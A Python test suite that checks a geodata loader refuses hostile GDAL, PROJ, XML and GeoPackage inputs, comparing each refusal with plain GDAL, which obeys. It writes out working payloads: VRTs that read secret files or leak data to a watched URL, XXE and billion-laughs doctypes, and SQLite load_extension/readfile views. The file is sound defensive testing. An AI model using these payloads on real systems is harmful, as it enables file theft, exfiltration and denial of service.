"""A boundary file is data: whatever it says, no address, no other file and no program is opened.

Each detector is shown to see what it is for: the same attack, given to GDAL or PROJ as they come, sets it off.
"""

from __future__ import annotations

import contextlib
import json
import os
import sqlite3
import struct
import sys
import zipfile
from typing import TYPE_CHECKING

import geopandas as gpd
import pyogrio
import pytest
import shapely
from pyproj import CRS
from pyproj.exceptions import ProjError
from watch import Watch, watching

from geo.atlas.countries import load_countries
from geo.atlas.formats import gdal_apart
from geo.atlas.formats.gdal_apart import read_apart
from geo.errors import BoundaryError

if TYPE_CHECKING:
    from collections.abc import Callable, Iterator
    from pathlib import Path

    Edit = Callable[[sqlite3.Connection, str], object]

pytestmark = pytest.mark.filterwarnings("ignore::UserWarning")

ENDINGS = (
    "geojson", "json", "gpkg", "shp", "zip", "fgb", "kml", "kmz", "gml", "xml", "parquet", "geoparquet", "vrt", "gfs",
    "csv", "gdb", "txt",
)  # fmt: skip


def vrt(source: str, query: str = "") -> str:
    inner = f"<SrcDataSource>{source}</SrcDataSource>{query}"
    return f'<OGRVRTDataSource><OGRVRTLayer name="secret">{inner}</OGRVRTLayer></OGRVRTDataSource>'


def collection(**members: object) -> str:
    polygon = {"type": "Polygon", "coordinates": [[[40, 30], [60, 30], [60, 45], [40, 45], [40, 30]]]}
    feature = {"type": "Feature", "properties": {"country": "AAA"}, "geometry": polygon}
    return json.dumps({"type": "FeatureCollection", "features": [feature], **members})


def crs(kind: str, **properties: str) -> str:
    return collection(crs={"type": kind, "properties": properties})


SQL = "<SrcSQL dialect='SQLITE'>SELECT ogr_datasource_load_layers('/vsicurl/{}/' || country) FROM secret</SrcSQL>"
# what GDAL and its libraries obey, each with what it does when it is obeyed here
OBEYED = {
    "VRT of an address": (lambda w: vrt(f"/vsicurl/{w.url}/a.geojson"), "request"),
    "VRT of a file": (lambda w: vrt(str(w.secret)), "secret"),
    "VRT of a program": (lambda _: vrt("GPSBabel:gpx,option=1:/etc/hostname"), "program"),
    "VRT of a query": (lambda w: vrt(str(w.secret), SQL.format(w.url)), "secret"),
    "WFS": (lambda w: f"<OGRWFSDataSource><URL>{w.url}/wfs</URL></OGRWFSDataSource>", "request"),
    "GDALG of an address": (lambda w: gdalg(f"/vsicurl/{w.url}/b.geojson"), "request"),
    "GDALG of a file": (lambda w: gdalg(str(w.secret)), "secret"),
    "crs of a link": (lambda w: crs("link", href=f"{w.url}/crs", type="ogcwkt"), "request"),
    "crs of an address": (lambda w: crs("url", url=f"{w.url}/crs"), "request"),
}
# what might be obeyed, by another version or with another setting
OTHERS = {
    "crs of a name that is an address": lambda w: crs("name", name=f"{w.url}/crs"),
    "crs of a name that is a file": lambda w: crs("name", name=str(w.secret)),
    "crs of a file of codes": lambda w: crs("name", name=f"+init={w.secret}:1"),
    "VRT of a zip": lambda w: vrt(f"/vsizip/{w.secret}/a.geojson"),
    "WMS": lambda w: f"<GDAL_WMS><Service name='TMS'><ServerUrl>{w.url}/</ServerUrl></Service></GDAL_WMS>",
    "CSW": lambda w: f"<OGRCSWDataSource><URL>{w.url}</URL></OGRCSWDataSource>",
    "raster VRT": lambda w: f"<VRTDataset><SourceFilename>{w.secret}</SourceFilename></VRTDataset>",
    "path": lambda w: str(w.secret),
    "address": lambda w: f"/vsicurl/{w.url}/a.geojson",
    "entity": lambda w: f'<!DOCTYPE kml [<!ENTITY x SYSTEM "file://{w.secret}">]><kml>&x;</kml>',
    "remote entity": lambda w: f'<!DOCTYPE kml [<!ENTITY x SYSTEM "{w.url}/x">]><kml>&x;</kml>',
    "remote type": lambda w: f'<!DOCTYPE kml SYSTEM "{w.url}/kml.dtd"><kml></kml>',
}
BODIES = {**{name: make for name, (make, _) in OBEYED.items()}, **OTHERS}


def gdalg(source: str) -> str:
    return json.dumps({"type": "gdal_streamed_alg", "command_line": f"gdal vector pipeline ! read {source}"})


def disguises(body: str) -> Iterator[tuple[str, bytes]]:
    """Yield the body as it is, in other encodings, and behind the mark of every format."""
    raw = body.encode()
    yield "plain", raw
    yield "marked UTF-8", b"\xef\xbb\xbf" + raw
    yield "UTF-16", body.encode("utf-16")
    yield "indented", b"\n\n   " + raw
    yield "commented", b"<!-- <kml> { -->" + raw
    yield "as GeoPackage", b"SQLite format 3\x00" + raw
    yield "as FlatGeobuf", b"fgb\x03fgb\x00" + raw
    yield "as GeoParquet", b"PAR1" + raw + b"PAR1"
    yield "as shapefile", b"\x00\x00\x27\x0a" + raw
    yield "as zip", b"PK\x03\x04" + raw
    yield "as gzip", b"\x1f\x8b" + raw
    yield "within KML", b"<kml>" + raw + b"</kml>"
    yield "within GML", b'<a xmlns:gml="http://www.opengis.net/gml">' + raw + b"</a>"


def attempt(path: Path | str) -> str:
    """Load a file; return the line of the refusal, or '' if it was read."""
    try:
        load_countries(path)
    except BoundaryError as error:
        message = str(error)
    else:
        return ""
    if not message.isprintable():
        pytest.fail(f"more than one plain line: {message!r}")
    return message


def as_gdal_comes(path: Path) -> None:
    """Read a file as this package once did."""
    with contextlib.suppress(Exception):  # what it did on the way is what matters
        gpd.read_file(path).to_crs(4326)


@pytest.fixture
def watch(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Watch]:
    if not sys.platform.startswith("linux"):
        pytest.skip("files are watched by inotify, which is Linux's")
    with watching(tmp_path, monkeypatch) as found:
        yield found


# --- the detectors


@pytest.mark.parametrize("name", OBEYED)
def test_what_gdal_obeys_is_seen(watch: Watch, name: str) -> None:
    make, deed = OBEYED[name]
    path = watch.folder / "states.geojson"
    path.write_text(make(watch))
    assert not watch.seen()
    as_gdal_comes(path)
    assert deed in watch.seen()


@pytest.mark.parametrize("name", ["crs of a link", "crs of an address"])
def test_the_process_of_gdal_has_no_network(watch: Watch, name: str) -> None:
    """Even with a driver that fetches links, which has nothing to do here."""
    body = BODIES[name](watch)
    assert list(read_apart(body.encode(), "GeoJSON"))
    assert not watch.seen()
    path = watch.folder / "states.geojson"
    path.write_text(body)
    as_gdal_comes(path)
    assert watch.seen() == {"request"}


@pytest.mark.parametrize("settings", ["/nonexistent", None])
def test_known_namespaces_of_gml_fetch_no_schema(
    watch: Watch, monkeypatch: pytest.MonkeyPatch, settings: str | None
) -> None:
    """GDAL's list of schemas, exchanged for one that leads here; the control has no settings of ours."""
    feature = f'<featureType elementName="place" schemaLocation="{watch.url}/place.xsd"/>'
    space = f'<namespace prefix="our" uri="{watch.url}/our">{feature}</namespace>'
    (watch.folder / "registry.xml").write_text(f"<gml_registry>{space}</gml_registry>")
    ring = "<gml:posList>30 40 30 60 45 60 45 40 30 40</gml:posList>"
    shape = f"<gml:Polygon><gml:exterior><gml:LinearRing>{ring}</gml:LinearRing></gml:exterior></gml:Polygon>"
    place = f"<our:place><our:country>AAA</our:country><our:shape>{shape}</our:shape></our:place>"
    names = f'xmlns:our="{watch.url}/our" xmlns:gml="http://www.opengis.net/gml"'
    body = f"<gml:FeatureCollection {names}><gml:featureMember>{place}</gml:featureMember></gml:FeatureCollection>"
    path = watch.folder / "states.gml"
    path.write_text(body)
    if settings is None:
        pyogrio.set_gdal_config_options({"GML_REGISTRY": str(watch.folder / "registry.xml")})
        as_gdal_comes(path)
        pyogrio.set_gdal_config_options({"GML_REGISTRY": None})
        assert watch.seen() == {"request"}
        return
    # either of the two, the namespace left out and the network shut, is enough
    monkeypatch.setitem(gdal_apart._SETTINGS, "GML_REGISTRY", str(watch.folder / "registry.xml"))
    assert load_countries(path).codes == ("AAA",)
    assert list(read_apart(body.encode(), "GML"))
    assert not watch.seen()


# --- one file


@pytest.mark.parametrize("name", BODIES)
def test_no_attack_works_under_any_ending_or_disguise(watch: Watch, name: str) -> None:
    refused = 0
    for how, raw in disguises(BODIES[name](watch)):
        # those that GDAL gets to see take long, and for it the ending is lost
        for ending in ENDINGS[:1] if how.startswith("within") else ENDINGS:
            path = watch.folder / f"{how}.{ending}"
            path.write_bytes(raw)
            assert attempt(path), path
            assert not watch.seen(), path
            refused += 1
    assert refused == 11 * len(ENDINGS) + 2


@pytest.mark.parametrize("name", BODIES)
def test_no_attack_works_within_a_zip(watch: Watch, name: str) -> None:
    body = BODIES[name](watch)
    for ending in ENDINGS:
        path = watch.folder / f"{ending}.zip"
        with zipfile.ZipFile(path, "w") as archive:
            archive.writestr(f"states.{ending}", body)
            archive.writestr(f"../../states.{ending}", body)
        assert attempt(path), path
        with zipfile.ZipFile(path, "w") as archive:
            archive.writestr(f"states.{ending}", body)
        assert attempt(path), path
    assert not watch.seen()


def test_a_path_is_a_file_and_never_an_address(watch: Watch, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(watch.folder)
    secret, url = watch.secret, watch.url
    paths = [
        f"/vsicurl/{url}/a.geojson", f"{url}/a.geojson", f"https{url[4:]}/a", f"/vsizip/{secret}",
        f"/vsizip/vsicurl/{url}",
        f"/vsigzip/{secret}",
        f"/vsisubfile/0_100,{secret}", f"zip://{secret}", f"file://{secret}", f"GeoJSON:{secret}",
        f"WFS:{url}", "PG:dbname=x", f"ESRIJSON:{url}", f"OAPIF:{url}", f"CSV:{secret}", "GPSBabel:gpx:/etc/hostname",
        vrt(str(secret)), vrt(f"/vsicurl/{url}/a"), crs("link", href=url), f"/vsistdin/{secret}", f"s3://{secret}",
    ]  # fmt: skip
    for path in paths:
        message = attempt(path)
        assert "an address and not a file" in message or "does not exist" in message or "be reached" in message, path
    assert not watch.seen()
    # the detectors know these, too
    as_gdal_comes(f"/vsicurl/{url}/a.geojson")  # type: ignore[arg-type]
    as_gdal_comes(f"GeoJSON:{secret}")  # type: ignore[arg-type]
    assert watch.seen() == {"request", "secret"}


def test_pipes_devices_and_folders_are_refused(watch: Watch) -> None:
    pipe = watch.folder / "pipe.geojson"
    os.mkfifo(pipe)
    assert "pipe or a device" in attempt(pipe)
    assert "pipe or a device" in attempt("/dev/zero")
    assert "is a folder" in attempt(watch.folder)


# --- files of an admitted format that say more


def states() -> gpd.GeoDataFrame:
    boxes = [shapely.box(40, 30, 50, 45), shapely.box(50, 30, 60, 45)]
    return gpd.GeoDataFrame({"country": ["AAA", "BBB"], "name": ["Aland", "Bland"]}, geometry=boxes, crs=4326)


def write(folder: Path, ending: str) -> Path:
    path = folder / f"states.{ending}"
    driver = {
        "geojson": "GeoJSON",
        "gpkg": "GPKG",
        "shp": "ESRI Shapefile",
        "fgb": "FlatGeobuf",
        "kml": "LIBKML",
        "gml": "GML",
    }
    if ending == "parquet":
        states().to_parquet(path)
    else:
        pyogrio.write_dataframe(states(), path, driver=driver[ending])
    return path


def changed(path: Path, *pairs: tuple[str, str]) -> Path:
    text = path.read_text(encoding="utf-8")
    for old, new in pairs:
        assert old in text
        text = text.replace(old, new)
    path.write_text(text, encoding="utf-8")
    return path


SIDECARS = (
    "prj", "cpg", "qpj", "qix", "sbn", "sbx", "xsd", "gfs", "gml.gfs", "shp.xml", "aux.xml", "gpkg-shm", "idm", "ind",
    "vrt", "resolved.gml", "geojson", "csvt", "ovr", "id",
)  # fmt: skip


@pytest.mark.parametrize("name", ["VRT of an address", "VRT of a file", "VRT of a program", "crs of a link", "path"])
@pytest.mark.parametrize("ending", ["shp", "gml", "kml", "fgb", "gpkg"])
def test_no_attack_works_from_beside_a_file(watch: Watch, ending: str, name: str) -> None:
    path = write(watch.folder, ending)
    body = BODIES[name](watch)
    for sidecar in SIDECARS:
        path.with_suffix(f".{sidecar}").write_text(body)
    (watch.folder / f"states.{ending}.aux.xml").write_text(body)
    assert not watch.seen()
    message = attempt(path)
    assert not watch.seen()
    assert ("coordinate system" in message) == (ending == "shp")
    path.with_suffix(".prj").unlink()
    assert load_countries(path).codes == ("AAA", "BBB")
    assert not watch.seen()


@pytest.mark.parametrize("sidecar", ["shx", "dbf", "prj", "cpg"])
def test_no_other_file_is_read_through_a_link_beside_a_shapefile(watch: Watch, sidecar: str) -> None:
    path = write(watch.folder, "shp")
    path.with_suffix(f".{sidecar}").unlink()
    path.with_suffix(f".{sidecar}").symlink_to(watch.secret)
    assert f"'states.{sidecar}' beside it is a link" in attempt(path)
    assert not watch.seen()
    as_gdal_comes(path)
    assert watch.seen() == {"secret"}


def test_no_pipe_beside_a_shapefile_is_opened(watch: Watch) -> None:
    path = write(watch.folder, "shp")
    path.with_suffix(".prj").unlink()
    os.mkfifo(path.with_suffix(".prj"))
    assert "'states.prj' is a pipe or a device" in attempt(path)


def test_gml_reaches_for_nothing(watch: Watch) -> None:
    path = write(watch.folder, "gml")
    original = path.read_text(encoding="utf-8")
    other = f'xmlns:xlink="http://www.w3.org/1999/xlink" xlink:href="{watch.url}/x#y"'
    ours = {
        "schema": ("http://ogr.maptools.org/ states.xsd", f"http://ogr.maptools.org/ {watch.url}/a.xsd"),
        "local schema": ("http://ogr.maptools.org/ states.xsd", f"http://ogr.maptools.org/ {watch.secret}"),
        "link": ("<gml:Polygon ", f"<gml:Polygon {other} "),
        "comment": ("<ogr:featureMember>", f"<!-- schemaLocation='{watch.url}/c.xsd' --><ogr:featureMember>"),
    }
    for case, pair in ours.items():
        path.write_text(original, encoding="utf-8")
        assert load_countries(changed(path, pair)).codes == ("AAA", "BBB"), case
        assert not watch.seen(), case
    pyogrio.set_gdal_config_options({"GML_SKIP_RESOLVE_ELEMS": "NONE"})
    try:
        path.write_text(original, encoding="utf-8")
        as_gdal_comes(changed(path, ours["link"]))
    finally:
        pyogrio.set_gdal_config_options({"GML_SKIP_RESOLVE_ELEMS": None})
    assert watch.seen() == {"request"}
    with pytest.warns(UserWarning, match=r"^states.gml: 2 link\(s\) in it to other files are not followed$"):
        load_countries(path)


@pytest.mark.parametrize("name", ["{url}/srs", "{secret}", "+init={secret}:1", "urn:ogc:def:crs:EPSG::1 {secret}"])
def test_coordinate_systems_of_gml_are_names(watch: Watch, name: str) -> None:
    path = write(watch.folder, "gml")
    changed(path, ("urn:ogc:def:crs:EPSG::4326", name.format(url=watch.url, secret=watch.secret)))
    assert "is no known name" in attempt(path)
    assert not watch.seen()


def test_kml_reaches_for_nothing(watch: Watch) -> None:
    link = f"<NetworkLink><Link><href>{watch.url}/n.kml</href></Link></NetworkLink>"
    icon = f"<Style><IconStyle><Icon><href>{watch.secret}</href></Icon></IconStyle></Style>"
    style = f'<?xml-stylesheet href="{watch.url}/a.xsl"?><styleUrl>{watch.url}/s.kml#x</styleUrl>{icon}'
    path = write(watch.folder, "kml")
    changed(path, ("<Placemark", f"{link}<Placemark"), ("<Polygon>", f"{style}<Polygon>"))
    with pytest.warns(UserWarning, match=r"2 link\(s\) in it to other files are not followed"):
        assert load_countries(path).codes == ("AAA", "BBB")
    assert not watch.seen()


@pytest.mark.parametrize("ending", ["kml", "gml"])
def test_document_types_are_refused_with_all_entities(watch: Watch, ending: str) -> None:
    laughs = "".join(f'<!ENTITY l{i} "{f"&l{i - 1};" * 10}">' for i in range(1, 10))
    types = [
        f'[<!ENTITY x SYSTEM "file://{watch.secret}">]', f'[<!ENTITY x SYSTEM "{watch.url}/x">]',
        f'SYSTEM "{watch.url}/t.dtd"', f'[<!ENTITY % p SYSTEM "{watch.url}/p">%p;]',
        f'[<!ENTITY l0 "ha">{laughs}<!ENTITY x "&l9;">]', "",
    ]  # fmt: skip
    for number, doctype in enumerate(types):
        path = write(watch.folder, ending)
        text = path.read_text(encoding="utf-8").replace("Aland", "&x;" if "ENTITY x" in doctype else "Aland")
        head, _, rest = text.partition("?>")
        path.write_text(f"{head}?><!DOCTYPE a {doctype}>{rest}", encoding="utf-8")
        assert "document type" in attempt(path), number
        path.write_text(f"{head}?><!DOCTYPE a {doctype}>{rest}".replace("UTF-8", "UTF-16"), encoding="utf-16")
        assert attempt(path), number
        path.unlink()
    assert not watch.seen()


# --- GeoPackage is a database


def grid(path: Path | str) -> dict[str, str]:
    """Return coordinate systems that name a file, in the ways there are."""
    geographic = '"x",DATUM["d",{}["GRS 1980",6378137,298.257222101]{}]'
    axes = 'CS[ellipsoidal,2],AXIS["lat",north],AXIS["lon",east],ANGLEUNIT["degree",0.0174532925199433]'
    old = (
        "GEOGCS[" + geographic.format("SPHEROID", "{}") + ',PRIMEM["Greenwich",0],UNIT["degree",0.0174532925199433]{}]'
    )
    new = "GEOGCRS[" + geographic.format("ELLIPSOID", "") + f",{axes}]"
    base = new.replace(f",{axes}", "")
    file = f'PARAMETERFILE["Latitude and longitude difference file","{path}"]'
    datum = 'DATUM["World Geodetic System 1984",ELLIPSOID["WGS 84",6378137,298.257223563]]'
    target = f'GEOGCRS["WGS 84",{datum},{axes},ID["EPSG",4326]]'
    return {
        "PROJ4_GRIDS": old.format(f',EXTENSION["PROJ4_GRIDS","{path}"]', ""),
        "PROJ4": old.format("", f',EXTENSION["PROJ4","+proj=longlat +ellps=GRS80 +nadgrids={path} +no_defs"]'),
        "bound": f'BOUNDCRS[SOURCECRS[{new}],TARGETCRS[{target}],ABRIDGEDTRANSFORMATION["t",METHOD["NTv2"],{file}]]',
        "method": f'PROJCRS["p",BASE{base},CONVERSION["c",METHOD["PROJ gridshift grids={path}"]],'
        'CS[Cartesian,2],AXIS["e",east],AXIS["n",north],LENGTHUNIT["metre",1]]',
    }


KINDS_OF_GRID = tuple(grid("x"))


def with_definition(folder: Path, ending: str, definition: str) -> Path:
    path = write(folder, ending)
    if ending == "shp":
        path.with_suffix(".prj").write_text(definition)
    elif ending == "gpkg":
        with_sql(path, lambda database, _: database.execute(
            "UPDATE gpkg_spatial_ref_sys SET organization='NONE', definition=? WHERE srs_id=4326", (definition,)
        ), "")  # fmt: skip
    elif ending == "fgb":
        path.write_bytes(flatgeobuf(path.read_bytes(), organization="", wkt=definition))
    return path


def with_sql(path: Path, edit: Edit, name: str) -> Path:
    database = sqlite3.connect(path)
    with database:
        edit(database, name)
    database.close()
    return path


@pytest.mark.parametrize("ending", ["shp", "gpkg", "fgb"])
@pytest.mark.parametrize("kind", KINDS_OF_GRID)
def test_no_grid_of_proj_is_opened(watch: Watch, ending: str, kind: str) -> None:
    path = with_definition(watch.folder, ending, grid(watch.secret)[kind])
    message = attempt(path)
    assert "its coordinate system" in message
    assert not watch.seen()


@pytest.mark.parametrize("kind", ["PROJ4_GRIDS", "PROJ4"])
def test_a_null_grid_is_no_file(tmp_path: Path, kind: str) -> None:
    """Web Mercator as GDAL writes it has one."""
    for ending in ("shp", "gpkg"):
        path = with_definition(tmp_path, ending, grid("@null")[kind])
        assert load_countries(path).codes == ("AAA", "BBB")
        path.unlink()
        assert "refers to a file" in attempt(with_definition(tmp_path, ending, grid("@null,x")[kind]))


@pytest.mark.parametrize("kind", ["PROJ4_GRIDS", "PROJ4", "bound"])
def test_what_proj_obeys_is_seen(watch: Watch, kind: str) -> None:
    path = with_definition(watch.folder, "gpkg", grid(watch.secret)[kind])
    assert not watch.seen()
    as_gdal_comes(path)
    assert watch.seen() == {"secret"}


@pytest.mark.parametrize("ending", ["shp", "gpkg", "fgb"])
@pytest.mark.parametrize(
    "text", ["{url}/a.wkt", "{secret}", "+init={secret}:1", "+proj=longlat +nadgrids={secret}", "/vsicurl/{url}/a"]
)
def test_definitions_are_wkt_and_nothing_else(watch: Watch, ending: str, text: str) -> None:
    path = with_definition(watch.folder, ending, text.format(url=watch.url, secret=watch.secret))
    assert "its coordinate system" in attempt(path)
    assert not watch.seen()


@pytest.mark.parametrize(
    "crs", ["{url}/a", "{secret}", "+init={secret}:1", {"type": "name"}, {"type": "GeographicCRS", "name": "{url}"}]
)
def test_coordinate_systems_of_geoparquet_are_stated_in_full(watch: Watch, crs: str | dict[str, str]) -> None:
    pq = pytest.importorskip("pyarrow.parquet")
    path = write(watch.folder, "parquet")
    table = pq.read_table(path)
    geo = json.loads(table.schema.metadata[b"geo"])
    stated = json.dumps(crs).replace("{url}", watch.url).replace("{secret}", str(watch.secret))
    geo["columns"]["geometry"]["crs"] = json.loads(stated)
    pq.write_table(table.replace_schema_metadata({b"geo": json.dumps(geo)}), path)
    assert "its coordinate system" in attempt(path)
    assert not watch.seen()


def flatgeobuf(data: bytes, *, organization: str | None = None, wkt: str | None = None) -> bytes:
    """Return a FlatGeobuf file with other strings for its coordinate system, put behind its head."""
    (size,) = struct.unpack_from("<I", data, 8)
    head = bytearray(data[12 : 12 + size])

    def at(table: int, number: int) -> int:
        fields = table - struct.unpack_from("<i", head, table)[0]
        return table + struct.unpack_from("<H", head, fields + 4 + 2 * number)[0]

    def table(place: int) -> int:
        return place + struct.unpack_from("<I", head, place)[0]

    system = table(at(table(0), 10))
    for number, text in ((0, organization), (4, wkt)):
        if text is not None:
            head.extend(b"\x00" * (-len(head) % 4))
            struct.pack_into("<I", head, at(system, number), len(head) - at(system, number))
            head.extend(struct.pack("<I", len(text.encode())) + text.encode() + b"\x00")
    head.extend(b"\x00" * (-len(head) % 4))
    return data[:8] + struct.pack("<I", len(head)) + bytes(head) + data[12 + size :]


@pytest.mark.parametrize("organization", ["{url}/x", "{secret}", "/vsicurl/{url}", "+init={secret}"])
def test_the_organization_in_flatgeobuf_is_a_word(watch: Watch, organization: str) -> None:
    path = write(watch.folder, "fgb")
    organization = organization.format(url=watch.url, secret=watch.secret)
    path.write_bytes(flatgeobuf(path.read_bytes(), organization=organization))
    assert "is no code, such as EPSG 4326" in attempt(path)
    assert not watch.seen()


def test_flatgeobuf_edited_by_the_tests_is_still_whole(tmp_path: Path) -> None:
    path = write(tmp_path, "fgb")
    path.write_bytes(flatgeobuf(path.read_bytes(), organization="EPSG"))
    assert load_countries(path).codes == ("AAA", "BBB")


def _view(database: sqlite3.Connection, what: str) -> None:
    database.execute("ALTER TABLE states RENAME TO hidden")
    database.execute(f"CREATE VIEW states AS SELECT fid, geom, {what} AS country FROM hidden")  # noqa: S608
    database.execute("UPDATE gpkg_contents SET table_name='states'")
    database.execute("UPDATE gpkg_geometry_columns SET table_name='states'")


def _in_schema(database: sqlite3.Connection, what: str) -> None:
    database.execute("PRAGMA writable_schema=ON")
    database.execute("UPDATE sqlite_master SET sql=?, rootpage=0 WHERE name='states'", (what,))


def _generated(database: sqlite3.Connection, what: str) -> None:
    database.execute("PRAGMA writable_schema=ON")
    column = f'"name" TEXT AS ({what})'
    database.execute("UPDATE sqlite_master SET sql=replace(sql, '\"name\" TEXT', ?) WHERE name='states'", (column,))


def _contents(database: sqlite3.Connection, what: str) -> None:
    database.execute("ALTER TABLE gpkg_contents RENAME TO hidden_contents")
    database.execute(f"CREATE VIEW gpkg_contents AS {what}")


ENDLESS = "WITH RECURSIVE r(n) AS (SELECT 1 UNION ALL SELECT n + 1 FROM r) SELECT {} FROM r"
DATABASES: dict[str, tuple[Edit, str]] = {
    "view": (_view, "country"),
    "view of an address": (_view, "ogr_datasource_load_layers('/vsicurl/{url}/x')"),
    "view of a file": (_view, "readfile('{secret}')"),
    "view of an extension": (_view, "load_extension('{secret}')"),
    "endless view": (_view, f"({ENDLESS.format('max(n)')})"),
    "virtual table": (_in_schema, "CREATE VIRTUAL TABLE states USING VirtualOGR('{secret}')"),
    "virtual shapefile": (_in_schema, "CREATE VIRTUAL TABLE states USING VirtualShape('{secret}', UTF-8, 4326)"),
    "virtual text": (_in_schema, "CREATE VIRTUAL TABLE states USING csv(filename='{secret}')"),
    "generated column": (_generated, "load_extension('{secret}')"),
    "generated column of a known function": (_generated, "printf('%999999999d', 1)"),
    "endless contents": (_contents, ENDLESS.format("'states' AS table_name, 'features' AS data_type")),
}


@pytest.mark.parametrize("case", DATABASES)
def test_a_database_is_only_its_plain_tables(watch: Watch, case: str) -> None:
    edit, what = DATABASES[case]
    path = write(watch.folder, "gpkg")
    database = sqlite3.connect(path)
    for kind, name in database.execute("SELECT type, name FROM sqlite_master WHERE type IN ('trigger')").fetchall():
        database.execute(f'DROP {kind} "{name}"')
    database.commit()
    database.close()
    assert load_countries(path).codes == ("AAA", "BBB")
    with_sql(path, edit, what.format(url=watch.url, secret=watch.secret))
    assert attempt(path)
    assert not watch.seen()


def test_triggers_do_nothing(watch: Watch) -> None:
    path = write(watch.folder, "gpkg")
    deed = f"SELECT load_extension('{watch.secret}')"
    with_sql(path, lambda d, _: d.execute(f"CREATE TRIGGER t AFTER UPDATE ON states BEGIN {deed}; END"), "")
    assert load_countries(path).codes == ("AAA", "BBB")
    assert not watch.seen()


def test_no_grid_is_opened_through_geoparquet(watch: Watch) -> None:
    pq = pytest.importorskip("pyarrow.parquet")
    bound = CRS.from_wkt(grid(watch.secret)["bound"]).to_json_dict()
    watch.seen()  # whatever PROJ did while this was made
    path = write(watch.folder, "parquet")
    table = pq.read_table(path)
    geo = json.loads(table.schema.metadata[b"geo"])
    geo["columns"]["geometry"]["crs"] = bound
    pq.write_table(table.replace_schema_metadata({b"geo": json.dumps(geo)}), path)
    assert "refers to a file" in attempt(path)
    assert not watch.seen()
    with contextlib.suppress(ProjError):
        gpd.read_parquet(path).to_crs(4326)
    assert watch.seen() == {"secret"}


def test_a_database_that_is_no_geopackage_is_refused(tmp_path: Path) -> None:
    database = sqlite3.connect(tmp_path / "states.gpkg")
    with database:
        database.execute("CREATE TABLE states (country TEXT, geom BLOB)")
    database.close()
    assert "a database but no GeoPackage" in attempt(tmp_path / "states.gpkg")


def test_a_link_that_the_user_names_is_followed(tmp_path: Path) -> None:
    path = write(tmp_path, "geojson")
    (tmp_path / "link.geojson").symlink_to(path)
    assert load_countries(tmp_path / "link.geojson").codes == ("AAA", "BBB")


def test_proj_stays_off_the_network() -> None:
    from pyproj import network

    before = network.is_network_enabled()
    network.set_network_enabled(active=True)
    asked = []
    try:
        from geo.atlas.formats import coordinate_systems

        with coordinate_systems._network_off():
            asked.append(network.is_network_enabled())
        asked.append(network.is_network_enabled())
    finally:
        network.set_network_enabled(active=before)
    assert asked == [False, True]
